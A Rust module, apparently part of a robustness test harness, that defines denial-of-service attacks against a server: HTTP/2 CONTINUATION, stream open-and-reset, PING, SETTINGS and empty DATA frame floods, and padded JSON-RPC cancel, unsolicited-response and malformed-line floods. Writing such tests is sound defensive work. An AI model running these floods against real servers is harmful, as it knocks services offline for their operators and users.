//! B: floods of frames and of small requests.

use std::collections::BTreeMap;

use crate::attack::{Attack, Target, on_server};
use crate::http1::{self, RawHttp1, RawSession};
use crate::line_wire::LineWire;
use crate::raw_http2::{self, RawHttp2, frame};
use crate::rpc;

pub(crate) fn attacks() -> Vec<Attack> {
    on_server![
        "B" Default an_http2_header_block_with_endless_continuation_frames,
        "B" Default http2_streams_are_opened_and_reset,
        "B" Default http2_pings_without_reading,
        "B" Default http2_settings_without_reading,
        "B" Default empty_data_frames_on_one_stream,
        "B" Default a_hundred_thousand_cancels_of_unknown_requests_over_lines,
        "B" Default cancels_of_unknown_requests_in_a_session,
        "B" Default unsolicited_responses_over_lines,
        "B" Default a_hundred_thousand_lines_that_are_not_json_without_reading,
    ]
    .to_vec()
}

async fn an_http2_header_block_with_endless_continuation_frames(
    target: Target,
) -> Result<String, String> {
    let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
    let first = frame(raw_http2::HEADERS, 0, 1, &raw_http2::call("echo"));
    let field = raw_http2::block(&[("x", "y")]).repeat(200);
    let more = (0..100_000).map(|_| frame(raw_http2::CONTINUATION, 0, 1, &field));
    Ok(raw.flood([first].into_iter().chain(more)).await)
}

async fn http2_streams_are_opened_and_reset(target: Target) -> Result<String, String> {
    let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
    let block = raw_http2::call("slow");
    let streams = (0..50_000_u32).flat_map(|number| {
        let stream = number * 2 + 1;
        [
            frame(raw_http2::HEADERS, raw_http2::END_HEADERS, stream, &block),
            frame(raw_http2::RST_STREAM, 0, stream, &[0, 0, 0, 8]),
        ]
    });
    Ok(raw.flood(streams).await)
}

async fn http2_pings_without_reading(target: Target) -> Result<String, String> {
    let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
    let pings = (0..500_000_u64).map(|number| frame(raw_http2::PING, 0, 0, &number.to_be_bytes()));
    Ok(raw.flood(pings).await)
}

async fn http2_settings_without_reading(target: Target) -> Result<String, String> {
    let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
    let setting = [0, 4, 0, 0, 255, 255];
    let settings = (0..500_000).map(|_| frame(raw_http2::SETTINGS, 0, 0, &setting));
    Ok(raw.flood(settings).await)
}

async fn empty_data_frames_on_one_stream(target: Target) -> Result<String, String> {
    let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
    let head = frame(
        raw_http2::HEADERS,
        raw_http2::END_HEADERS,
        1,
        &raw_http2::call("echo"),
    );
    let data = (0..500_000).map(|_| frame(raw_http2::DATA, 0, 1, &[]));
    let last = frame(raw_http2::DATA, raw_http2::END_STREAM, 1, &[]);
    Ok(raw
        .flood([head].into_iter().chain(data).chain([last]))
        .await)
}

async fn a_hundred_thousand_cancels_of_unknown_requests_over_lines(
    target: Target,
) -> Result<String, String> {
    let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
    let padding = "c".repeat(2600);
    let flood = wire
        .flood((0..100_000).map(|id| cancel(id, &padding)))
        .await;
    Ok(flood.to_string())
}

async fn cancels_of_unknown_requests_in_a_session(target: Target) -> Result<String, String> {
    let mut session = RawSession::open(target.http, rpc::LEGACY)
        .await
        .map_err(text)?;
    let headers = session.headers();
    let padding = "c".repeat(60_000);
    let posts: Vec<String> = (0..5000)
        .map(|id| http1::post(&headers, &cancel(id, &padding)))
        .collect();
    let mut statuses = BTreeMap::new();
    for post in posts {
        session.http.write(post).await.map_err(text)?;
        let status = session.http.answer().await.map_err(text)?.status;
        *statuses.entry(status).or_insert(0) += 1;
    }
    Ok(format!("cancels of 60 KB each, by status: {statuses:?}"))
}

fn cancel(number: usize, padding: &str) -> String {
    let params = format!(r#"{{"requestId":"{number}{padding}"}}"#);
    format!(r#"{{"jsonrpc":"2.0","method":"notifications/cancelled","params":{params}}}"#)
}

async fn unsolicited_responses_over_lines(target: Target) -> Result<String, String> {
    let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
    let padding = "x".repeat(1000);
    let answers = (0..100_000).map(|id| {
        format!(r#"{{"jsonrpc":"2.0","id":"{padding}{id}","result":{{"padding":"{padding}"}}}}"#)
    });
    Ok(wire.flood(answers).await.to_string())
}

async fn a_hundred_thousand_lines_that_are_not_json_without_reading(
    target: Target,
) -> Result<String, String> {
    let mut wire = LineWire::connect(target.lines).await.map_err(text)?;
    let flood = wire
        .flood((0..100_000).map(|_| "not JSON at all ".repeat(60)))
        .await;
    let mut http = RawHttp1::connect(target.http).await.map_err(text)?;
    let answer = http.post(&[], "{").await.map_err(text)?;
    Ok(format!("{flood}; over HTTP {}", answer.status))
}

fn text(error: std::io::Error) -> String {
    error.to_string()
}
